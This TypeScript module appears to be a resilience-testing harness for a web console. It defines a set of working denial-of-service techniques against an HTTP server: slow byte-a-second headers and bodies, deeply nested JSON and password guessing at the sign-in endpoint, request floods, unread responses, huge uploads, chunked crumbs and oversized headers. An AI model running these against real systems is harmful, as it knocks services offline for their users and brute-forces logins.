import type { Socket } from 'node:net';

/** What an abuse is aimed at. */
export interface Target {
  host: string;
  /** The path of the largest script of the console. */
  script: string;
  /** The path of a stored picture, which anyone may see. */
  picture: string;
  /** A sign-in with a wrong password, as a browser sends it. */
  guess: string;
}

/** What one connection does until it is closed; then a new one is opened. */
export type Abuse = (socket: Socket, target: Target) => void;

const BLOCK = 64 * 1024;
const SECOND = 1_000;

const head = (line: string, { host }: Target, ...headers: string[]) =>
  [`${line} HTTP/1.1`, `Host: ${host}`, ...headers, '', ''].join('\r\n');
const get = (path: string, target: Target) => head(`GET ${path}`, target);
const post = (path: string, target: Target, type: string, length: string) =>
  head(`POST ${path}`, target, `Content-Type: ${type}`, length);
const SESSION = '/api/console/session';
const JSON_TYPE = 'application/json';
const withJson = (body: string, target: Target) =>
  post(SESSION, target, JSON_TYPE, `Content-Length: ${body.length}`) + body;

const many = (text: string) => Buffer.from(text.repeat(Math.ceil(BLOCK / text.length)));

/** Writes as fast as the other side takes it. */
function flood(socket: Socket, block: Buffer): void {
  const more = () => {
    while (!socket.destroyed && socket.write(block));
  };
  socket.on('drain', more);
  more();
}

/** Writes a byte a second. */
function drip(socket: Socket, text: string): void {
  let at = 0;
  const timer = setInterval(() => {
    socket.write(text.charAt(at % text.length));
    at += 1;
  }, SECOND);
  socket.on('close', () => clearInterval(timer));
}

/** Sends the next request as soon as a response, or a part of it, has come. */
function askAgain(socket: Socket, request: string): void {
  socket.on('data', () => void socket.write(request));
  socket.write(request);
}

const unread =
  (request: (target: Target) => string): Abuse =>
  (socket, target) => {
    socket.pause();
    socket.write(request(target).repeat(20));
  };

/** What an anonymous client may try to block others by, by name. */
export const kinds: Readonly<Record<string, Abuse>> = {
  'nested sign-ins of 2 MB': (socket, target) => askAgain(socket, withJson('['.repeat(2_000_000), target)),
  'nested sign-ins of 16 KB': (socket, target) => askAgain(socket, withJson('['.repeat(16_000), target)),
  'guessed passwords': (socket, target) => askAgain(socket, withJson(target.guess, target)),
  'heads without end, a byte a second': (socket, target) => {
    socket.write(get('/console', target).slice(0, -4));
    drip(socket, '\r\nX-A: 1');
  },
  'held sign-ins, a byte a second': (socket, target) => {
    socket.write(post(SESSION, target, JSON_TYPE, 'Content-Length: 16000'));
    drip(socket, ' ');
  },
  'requests in a row, unasked': (socket, target) => {
    socket.resume();
    flood(socket, many(get('/api/console/faqs', target)));
  },
  'requests whose answers nobody reads': unread((target) => get('/console', target)),
  'scripts that nobody reads': unread((target) => get(target.script, target)),
  'pictures, again and again': (socket, target) => askAgain(socket, get(target.picture, target)),
  'pages and scripts, again and again': (socket, target) =>
    askAgain(socket, get('/console', target) + get(target.script, target)),
  'uploads to closed paths': (socket, target) => {
    socket.resume();
    socket.write(
      post('/api/console/images', target, 'multipart/form-data; boundary=x', 'Content-Length: 50000000'),
    );
    flood(socket, Buffer.alloc(BLOCK));
  },
  'bodies in crumbs': (socket, target) => {
    socket.resume();
    socket.write(post(SESSION, target, JSON_TYPE, 'Transfer-Encoding: chunked'));
    flood(socket, many('1\r\n \r\n'));
  },
  'connections, opened and closed': (socket) => void socket.destroy(),
  'nonsense and heads without measure': (socket, target) => {
    socket.resume();
    flood(
      socket,
      many(`GET /${'x'.repeat(7_000)} HTTP/1.1\r\nHost: ${target.host}\r\n${'A:b\r\n'.repeat(1_500)}\r\n`),
    );
  },
};
